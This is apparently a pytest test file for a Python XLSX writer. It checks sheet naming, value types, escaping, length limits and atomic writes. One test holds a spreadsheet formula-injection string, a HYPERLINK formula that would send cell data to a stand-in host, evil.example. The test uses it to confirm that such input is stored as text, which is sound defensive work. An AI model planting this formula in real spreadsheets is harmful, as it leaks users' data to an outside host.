import io
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from core.xlsx import Sheet, workbook_bytes, write_book


def test_workbook_holds_headers_rows_and_notes():
    data = workbook_bytes(
        [
            Sheet(
                "部门排名: 2026/10",
                ["部门", "按期率"],
                [["环卫", 0.95], ["园林", None]],
                notes=["按期率 = 按期处置数 / 应处置数"],
            )
        ]
    )
    book = load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    assert ws.title == "部门排名  2026 10"
    assert [c.value for c in ws[1]] == ["部门", "按期率"]
    assert [c.value for c in ws[2]] == ["环卫", 0.95]
    assert ws["B3"].value is None
    assert ws["A5"].value == "按期率 = 按期处置数 / 应处置数"


def test_dates_stay_dates_and_other_values_become_text():
    data = workbook_bytes([Sheet("x", ["when", "what"], [[datetime(2026, 11, 26, 9, 30), ["a"]]])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws["A2"].value == datetime(2026, 11, 26, 9, 30)
    assert ws["B2"].value == "['a']"


def test_text_that_looks_like_a_formula_stays_text():
    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    data = workbook_bytes([Sheet("x", ["描述"], [[typed]], notes=["=1+1"])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert (ws["A2"].value, ws["A2"].data_type) == (typed, "s")
    assert (ws["A4"].value, ws["A4"].data_type) == ("=1+1", "s")


def test_rows_are_written_one_after_the_other_from_a_generator_with_progress():
    produced = []

    def rows():
        for n in range(1, 1001):
            produced.append(n)
            yield [n, f"={n}"]

    progress = []
    buffer = io.BytesIO()
    count = write_book(buffer, [Sheet("x", ["n", "text"], rows(), total=1000)], progress.append, every=400)
    assert count == 1000 and progress == [400, 800] and len(produced) == 1000
    ws = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert [ws.cell(row=1001, column=c).value for c in (1, 2)] == [1000, "=1000"]
    assert ws["B2"].data_type == "s" and ws.freeze_panes == "A2"


def test_the_package_holds_the_parts_excel_needs_each_well_formed():
    data = workbook_bytes([Sheet("一", ["a"], [[1]]), Sheet("二", ["b"], [["x"]], notes=["n"])])
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        names = package.namelist()
        assert names[0] == "[Content_Types].xml"  # where tools sniffing the type look first
        for part in ("_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
                     "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "docProps/core.xml"):  # fmt: skip
            assert part in names
        for name in names:
            ElementTree.fromstring(package.read(name))  # well-formed XML, every part
        types = package.read("[Content_Types].xml").decode()
        assert "/xl/worksheets/sheet2.xml" in types and "/xl/styles.xml" in types
        assert package.getinfo("xl/worksheets/sheet1.xml").compress_type == zipfile.ZIP_DEFLATED


def test_values_keep_their_types_and_number_formats():
    values = [
        datetime(2026, 11, 26, 9, 30, 15),
        date(2026, 1, 2),
        True,
        False,
        7,
        1.5,
        Decimal("2.25"),
        None,
        "",
        10**20,
        datetime(2026, 1, 1, 8, tzinfo=timezone(timedelta(hours=8))),  # written as its wall-clock time
        datetime(1899, 1, 1),  # before Excel's first usable serial: text
        float("nan"),
    ]
    data = workbook_bytes([Sheet("x", [f"h{n}" for n in range(len(values))], [values])])
    cells = load_workbook(io.BytesIO(data)).worksheets[0][2]
    got = [(cell.value, cell.data_type) for cell in cells]
    assert got == [
        (datetime(2026, 11, 26, 9, 30, 15), "d"),
        (datetime(2026, 1, 2), "d"),
        (True, "b"),
        (False, "b"),
        (7, "n"),
        (1.5, "n"),
        (2.25, "n"),
        (None, "n"),
        (None, "n"),
        (10**20, "n"),
        (datetime(2026, 1, 1, 8), "d"),
        ("1899-01-01 00:00:00", "s"),
        ("nan", "s"),
    ]
    assert cells[0].number_format == "yyyy-mm-dd h:mm:ss" and cells[1].number_format == "yyyy-mm-dd"


def test_text_is_kept_as_typed_escaped_for_xml_and_cut_at_excels_limit():
    texts = [
        " 前后空格 ",
        "a & b <c> \"d\" 'e'",
        "行一\r\n行二\t制表",
        "ab\x00\x0bcd",
        "x\ufffey\udc80z",
        "长" * 40_000,
    ]
    data = workbook_bytes([Sheet("x", ["t"] * len(texts), [texts])])
    cells = [cell.value for cell in load_workbook(io.BytesIO(data)).worksheets[0][2]]
    assert cells[:5] == [
        " 前后空格 ",
        "a & b <c> \"d\" 'e'",
        "行一\r\n行二\t制表",
        "ab\u2400\u240bcd",
        "x\ufffdy\ufffdz",
    ]
    assert len(cells[5]) == 32_767 and cells[5].endswith("…")


def test_widths_frozen_bold_header_and_several_sheets_with_names_excel_accepts():
    sheets = [
        Sheet("案件/列表:[全部]", ["编号", "描述"], [["2026-000001", "暴露垃圾"]], widths=[14, 50]),
        Sheet("案件 列表 全部 ", ["n"], [[1]]),  # the same name once cleaned: numbered
        Sheet("'" + "长" * 40, ["n"], [[2]]),
    ]
    book = load_workbook(io.BytesIO(workbook_bytes(sheets)))
    assert book.sheetnames == ["案件 列表  全部 ", "案件 列表 全部 ", "长" * 31]
    first = book.worksheets[0]
    assert first.column_dimensions["A"].width == 14 and first.column_dimensions["B"].width == 50
    assert first.freeze_panes == "A2" and first["A1"].font.b and not first["A2"].font.b
    assert [book.worksheets[n]["A2"].value for n in (1, 2)] == [1, 2]
    same = load_workbook(io.BytesIO(workbook_bytes([Sheet("Data", ["n"]), Sheet("data", ["n"])])))
    assert same.sheetnames == ["Data", "data (2)"]  # Excel compares names ignoring case


def test_a_file_appears_at_its_path_only_once_complete(tmp_path):
    def rows():
        yield [1]
        raise RuntimeError("the database went away")

    path = tmp_path / "export.xlsx"
    with pytest.raises(RuntimeError):
        write_book(path, [Sheet("x", ["n"], rows(), widths=[8])])
    assert list(tmp_path.iterdir()) == []
    assert write_book(path, [Sheet("x", ["n"], [[1], [2]])]) == 2
    assert [p.name for p in tmp_path.iterdir()] == ["export.xlsx"]
